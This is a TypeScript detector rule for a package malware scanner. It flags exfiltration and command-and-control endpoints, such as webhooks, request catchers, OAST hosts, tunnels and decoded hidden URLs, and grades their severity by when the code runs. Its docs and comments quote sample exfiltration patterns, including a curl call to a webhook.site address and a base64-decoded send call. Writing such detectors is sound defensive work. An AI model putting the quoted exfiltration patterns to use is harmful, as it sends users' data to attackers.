import type { CallFact, Finding, Severity, ValueFact } from '../../model/index.js';
import { capabilityOf } from '../shared/capabilities.js';
import { credentialedEndpointIn, endpointIn, isDownloadLink } from '../shared/indicators.js';
import { isAuxiliary } from '../shared/scope-filter.js';
import { sourceLine, when } from '../shared/snippet.js';
import type { StringEvent } from '../shared/events.js';
import { finding, type Detector, type PackageModel, type RuleMeta } from '../types.js';

const meta: RuleMeta = {
  id: 'code/exfil-endpoint',
  title: 'Exfiltration or command-and-control endpoint',
  vectors: ['install', 'import', 'runtime'],
  severity: 'high',
  behaviors: ['information-stealing', 'remote-control'],
  techniques: ['external-payload'],
  summary:
    'Code holds a URL of a kind attackers use to receive data or serve payloads: chat webhooks (Discord, Telegram, Slack), request catchers, OAST/DNS-log hosts, tunnels, paste sites, anonymous file hosts, raw public IP addresses.',
  docs: `These hosts are where stolen data goes and where second stages come from. Legitimate libraries contain
them too (a Discord webhook client, a paste-site API wrapper, a tunnel client), so severity depends on when
the code runs:

- passed to a call that runs at install or import time (also through a name it is assigned to on its own line,
  \`target = 'https://webhook.site/…?' + str(randint(1, 100))\` … \`os.system('curl ' + target)\`), or hidden by
  encoding there: **high**;
- a webhook with its id and token, or a chat-bot token, embedded anywhere in the code: **high** (libraries take
  such credentials from their users; they do not ship their own);
- an out-of-band interaction (OAST) host or a request catcher handed to a call, even in code that only runs
  when called: **high** (such an address only ever receives someone's data);
- only defined at install or import time (a module constant): **medium** for request catchers, OAST hosts,
  tunnels, paste sites and file drops; **low** for chat APIs without a credential, raw IP addresses, prose and
  a file host's share or download link (\`https://www.dropbox.com/s/…/data.zip?dl=1\`, a Discord attachment: it
  serves a file and cannot receive one; datasets and test media are shared that way);
- in code that only runs when called: **low** (the other rules decide whether the code around it steals or
  runs payloads);
- a network call whose destination is a URL the code decodes (base64, hex, zlib, char codes, …) from a
  constant, whatever the host and whenever it runs: **high**; also when the encoded constant sits in another
  module of the package, or the decoded URL is handed to a function of the package that sends. Clients name
  their service's host in plain text; hiding where a request goes is what droppers and stealers do.

Hosts are matched by category (for example any \`*.pipedream.net\` request catcher), never by a sample's address.`,
};

/** A decoded value that names a remote host. */
const HIDDEN_URL = /^(https?|wss?|ftp):\/\/[\w.-]+\.\w/i;
const HIDDEN_HOST = /^[a-z0-9-]+(\.[a-z0-9-]+)*\.[a-z]{2,}(:\d+)?$/i;
const HOST_CONNECTION = /^(http\.client|httplib)\.HTTPS?Connection$/;
const DECODER = /^(base64\.\w*decode\w*|binascii\.(unhexlify|a2b_\w+)|codecs\.decode|zlib\.decompress|bytes\.fromhex|local\..+)$/;


/** Kinds that are ordinary public APIs until a credential or an early call makes them someone's channel. */
const PUBLIC_API = new Set(['webhook', 'raw-ip']);

const OUTBOUND = new Set(['network', 'shell', 'socket', 'dns']);

/**
 * `target = 'https://webhook.site/…?' + str(randint(1, 100))` then `os.system('curl ' + target)`: the address is
 * assigned to a name on its own line, and a network call or command of the same body passes that name on. The
 * value does not fold (a random part), so the call's arguments never show the address itself.
 */
function usedThroughName(pkg: PackageModel, s: { file: string; line: number; scope: string }): boolean {
  const line = pkg.text(s.file)?.split('\n', s.line)[s.line - 1];
  const name = line ? /^\s*([A-Za-z_]\w*)\s*=[^=]/.exec(line)?.[1] : undefined;
  if (!name) return false;
  const word = new RegExp(`\\b${name}\\b`);
  return (pkg.events.byFile.get(s.file) ?? []).some(
    (e) => e.scope === s.scope && e.line > s.line && OUTBOUND.has(e.capability) && (e.call?.args ?? []).some((a) => word.test(a.text)),
  );
}

export const exfilEndpoint: Detector = {
  meta,
  run(pkg) {
    const out: Finding[] = [];
    const seen = new Set<string>();
    // Values that calls running at install or import time actually receive (folded through constants).
    const earlyValues: string[] = [];
    const calledValues: string[] = [];
    for (const [file, f] of pkg.facts) {
      const visit = (values: string[], scope: string): void => {
        if (pkg.execution.vector(file, scope) !== 'runtime') earlyValues.push(...values);
        else calledValues.push(...values);
      };
      // Folded values, or the source text where a value is interpolated (f-strings, template literals).
      for (const c of f.calls) visit([...c.args, ...Object.values(c.kwargs)].flatMap((a) => [a.value ?? a.text, ...(a.items ?? []).map((i) => i.value ?? i.text)]), c.scope);
      for (const d of f.decoded) for (const c of d.facts?.calls ?? []) visit(c.args.map((a) => a.value ?? ''), d.scope);
    }
    for (const s of pkg.events.strings) {
      if (isAuxiliary(s.file, s.vector, pkg.execution)) continue;
      const token = credentialedEndpointIn(s.value);
      const hit = endpointIn(s.value) ?? (token && s.value.trim() === token ? { kind: 'webhook' as const, label: 'chat-bot token', match: token } : undefined);
      if (!hit) continue;
      const key = `${s.file}:${s.line}:${hit.match}`;
      if (seen.has(key)) continue;
      seen.add(key);
      const early = s.vector === 'install' || s.vector === 'import';
      const used = early && hit.match.length > 8 && (earlyValues.some((v) => v.includes(hit.match)) || usedThroughName(pkg, s));
      // Out-of-band test hosts and request catchers receive someone's data and nothing else: handed to a call, even
      // one that only runs when called, they are the package's channel.
      const catcherCalled = (hit.kind === 'oast-dns' || hit.kind === 'request-catcher') && hit.match.length > 12 && calledValues.some((v) => v.includes(hit.match));
      // Prose (docstrings, help texts) that mentions such a URL is documentation, not configuration.
      const prose = /\n/.test(s.value) || s.value.split(/\s+/).length > 6;
      // A real webhook id and token, or a bot token, embedded in code is the author's own channel: libraries
      // take such credentials from their users, they do not ship them.
      const credentialed = !prose && credentialedEndpointIn(s.value) !== undefined;
      const severity: Severity =
        used || credentialed || catcherCalled || (early && s.decoded)
          ? 'high'
          : early && !prose && !PUBLIC_API.has(hit.kind) && !isDownloadLink(hit.match)
            ? 'medium'
            : 'low';
      out.push(
        finding(meta, {
          severity,
          vector: s.vector,
          ...(s.decoded ? { techniques: ['obfuscation', 'external-payload'] } : {}),
          message: `${hit.label} ${hit.match} ${when(s)}${s.decoded ? ` (hidden with ${s.decoded.join(' → ')})` : ''}`,
          file: s.file,
          line: s.line,
          snippet: sourceLine(pkg, s.file, s.line),
          evidence: hit.match,
        }),
      );
    }
    out.push(...hiddenDestinations(pkg, seen));
    return out;
  },
};

/** Network calls whose URL argument is (or starts with) a URL decoded from a constant in the same file. */
function hiddenDestinations(pkg: PackageModel, seen: Set<string>): Finding[] {
  const out: Finding[] = [];
  const decodedUrls = new Map<string, StringEvent[]>();
  for (const s of pkg.events.strings) {
    if (!s.decoded || !(HIDDEN_URL.test(s.value) || HIDDEN_HOST.test(s.value)) || isAuxiliary(s.file, s.vector, pkg.execution)) continue;
    const list = decodedUrls.get(s.file);
    if (list) list.push(s);
    else decodedUrls.set(s.file, [s]);
  }
  // A decoded URL handed to one of the package's functions that sends (`send(b64decode(U).decode(), data)`
  // with `def send(url, d): post(url, data=d)`): the helper's request goes there.
  const relayed = new Set<CallFact | undefined>(pkg.events.events.filter((e) => e.capability === 'network-relay').map((e) => e.call));
  for (const [file, f] of pkg.facts) {
    const urls = decodedUrls.get(file);
    if (!urls) continue;
    for (const c of f.calls) {
      // A method of a session object (`aiohttp.ClientSession().post`, an unknown `s.get`) named like a request
      // counts too: its first argument is a URL.
      const relay = relayed.has(c);
      if (!relay && capabilityOf(f.language, c.callee) !== 'network' && !/\.(get|post|put|patch|request|fetch|urlopen)$/.test(c.callee)) continue;
      const vector = pkg.execution.vector(file, c.scope);
      const targets = relay ? c.args : [c.args[0] ?? c.kwargs['url']];
      if (targets[0] === undefined || isAuxiliary(file, vector, pkg.execution)) continue;
      // A connection object takes the bare host name (`HTTPSConnection(host)`); everything else takes a URL.
      const takes = HOST_CONNECTION.test(c.callee) ? HIDDEN_HOST : HIDDEN_URL;
      const hiddenIn = (target: ValueFact | undefined): StringEvent | undefined =>
        target &&
        urls.find((s) => takes.test(s.value) && ((target.value !== undefined && target.value.startsWith(s.value)) || (!relay && s.line === c.line && target.refs.some((r) => DECODER.test(r)))));
      const hidden = targets.map(hiddenIn).find((h) => h !== undefined);
      const key = hidden ? `hidden:${file}:${c.line}:${hidden.value}` : '';
      if (!hidden || seen.has(key)) continue;
      seen.add(key);
      const at = { file, line: c.line, vector };
      out.push(
        finding(meta, {
          severity: 'high',
          vector,
          techniques: ['obfuscation', 'external-payload'],
          message: relay
            ? `${c.callee.replace(/^local\./, '')}, a function of the package that sends, is handed ${hidden.value.slice(0, 80)}, a destination hidden with ${(hidden.decoded ?? []).join(' → ')}, ${when(at)}`
            : `${c.callee.replace(/^\?\./, '')} sends to ${hidden.value.slice(0, 80)}, a destination hidden with ${(hidden.decoded ?? []).join(' → ')}, ${when(at)}`,
          file,
          line: c.line,
          snippet: sourceLine(pkg, file, c.line),
          evidence: hidden.value.slice(0, 200),
        }),
      );
    }
  }
  return out;
}
